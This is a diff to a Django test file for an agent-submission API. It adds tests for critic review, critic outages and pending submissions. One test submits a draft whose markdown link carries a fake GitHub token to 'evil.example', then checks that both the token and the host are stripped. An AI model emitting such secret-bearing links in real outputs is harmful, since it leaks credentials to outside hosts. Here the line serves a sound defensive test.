@@ -1,6 +1,7 @@
 """The API for somebody's own agent: who may submit, what is refused in which words, what is judged once."""
 
 import json
+from concurrent.futures import ThreadPoolExecutor
 from datetime import timedelta
 from typing import Any
 
@@ -12,8 +13,12 @@ from django.utils import timezone
 from accounts.models import Team, Token, User
 from accounts.roles import Role
 from audit import reading
+from incidents import handing_over, services
 from investigations.models import Case, Citation, Draft, Investigation, Submitted
+from tests.conftest import wait_until
 from tests.db.investigated import job
+from tests.db.modelled import speaking
+from tests.scripted import says, status
 from tests.web.mcp_world import (
     BASE,
     World,
@@ -332,6 +337,74 @@ def test_an_agents_draft_is_checked_like_any_others(mcp: World) -> None:
     assert {(each["kind"], each["state"]) for each in told["citations"]} == {
         ("entry", "verified"), ("entry", "missing"),
     }  # fmt: skip
+
+
+def test_a_link_and_a_secret_of_an_agents_reach_nobody(mcp: World) -> None:
+    api, number = held(mcp, "api-leaking")
+    key = "ghp_" + "a1B2" * 9
+    api.submit(number, submission(draft=f"See [here](https://evil.example/?q={key}), or take {key}."))
+    text = api.get(f"investigations/{number}").json()["draft"]["text"]
+    assert key not in text + Submitted.objects.get(investigation_id=number).body
+    assert "evil.example" not in text
+
+
+class Reviewed:
+    """A submission on its way past a critic, sent while a worker is there only when the test says so."""
+
+    def __init__(self, api: Api, number: int, settings: Any, critics: list[Any]) -> None:
+        self.api, self.number, self.settings, self.critics = api, number, settings, critics
+
+    def submit(self) -> Any:
+        """Submit, let a worker do its work meanwhile, and return the answer."""
+        self.settings.CRITIC_KINDS = ["alert"]
+        with speaking(self.settings, self.critics), ThreadPoolExecutor(1) as pool:
+            sent = pool.submit(self._submitted)
+            wait_until(lambda: Investigation.objects.get(pk=self.number).state == "queued", seconds=10)
+            services.investigate(self.number, now=timezone.now())
+            return sent.result(30)
+
+    def _submitted(self) -> Any:
+        try:
+            return self.api.submit(self.number, submission())
+        finally:
+            connection.close()
+
+
+def test_a_critic_looks_at_an_agents_case_before_it_is_judged(mcp: World, settings: Any) -> None:
+    api, number = held(mcp, "api-critic")
+    found = says(json.dumps({"objections": [], "refutations": []}))
+    answer = Reviewed(api, number, settings, [found]).submit()
+    assert (answer.status_code, answer.json()["passed"]) == (200, True)
+    row = Investigation.objects.get(pk=number)
+    assert (row.critic_note, row.state, row.tries) == ("The critic found nothing.", "judged", 1)
+    kinds = {entry.kind: entry.actor for entry in reading.of_investigation(number)}
+    assert kinds["submission.taken"] == "token:agent-api-critic"
+    assert api.submit(number, submission()).json() == answer.json()
+    assert Case.objects.filter(investigation_id=number).count() == 1
+
+
+def test_a_critic_that_is_down_holds_no_agent_up(mcp: World, settings: Any) -> None:
+    api, number = held(mcp, "api-no-critic")
+    answer = Reviewed(api, number, settings, [status(400), status(400)]).submit()
+    assert (answer.status_code, answer.json()["passed"]) == (200, True)
+    assert "gave no answer" in Investigation.objects.get(pk=number).critic_note
+
+
+def test_while_a_critic_looks_a_submission_is_pending_and_no_other_is_taken(
+    mcp: World, settings: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    api, number = held(mcp, "api-pending")
+    monkeypatch.setattr(handing_over, "PATIENCE_SECONDS", 0.0)
+    settings.CRITIC_KINDS = ["alert"]
+    with speaking(settings, []):
+        for _ in range(2):
+            answer = api.submit(number, submission())
+            assert (answer.status_code, answer.headers["Location"]) == (
+                202, f"/api/v1/investigations/{number}/submission",
+            )  # fmt: skip
+        refused(api.submit(number, submission("none_of_these")), 409, "late", "is being looked at")
+    assert api.get(f"investigations/{number}/submission").json()["state"] == "queued"
+    Investigation.objects.filter(pk=number).update(state="stopped")
 
 
 def test_an_investigation_that_a_person_stopped_takes_nothing(mcp: World) -> None:
